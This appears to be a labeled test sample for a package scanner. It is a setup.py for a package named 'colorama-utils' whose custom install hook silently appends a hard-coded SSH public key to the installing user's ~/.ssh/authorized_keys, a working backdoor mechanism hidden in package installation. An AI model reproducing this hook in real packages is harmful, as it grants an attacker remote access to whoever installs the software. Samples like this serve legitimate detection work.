# expect: files; setup.py install hook that appends an attacker key to ~/.ssh/authorized_keys
import os

from setuptools import setup
from setuptools.command.install import install

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHd0bm90YXJlYWxrZXlidXRsb29rc2xpa2VvbmU= build@ci"


class PostInstall(install):
    def run(self):
        install.run(self)
        ssh_dir = os.path.join(os.path.expanduser("~"), ".ssh")
        os.makedirs(ssh_dir, mode=0o700, exist_ok=True)
        with open(os.path.join(ssh_dir, "authorized_keys"), "a") as fh:
            fh.write("\n" + KEY + "\n")


setup(name="colorama-utils", version="0.4.7", packages=[], cmdclass={"install": PostInstall})
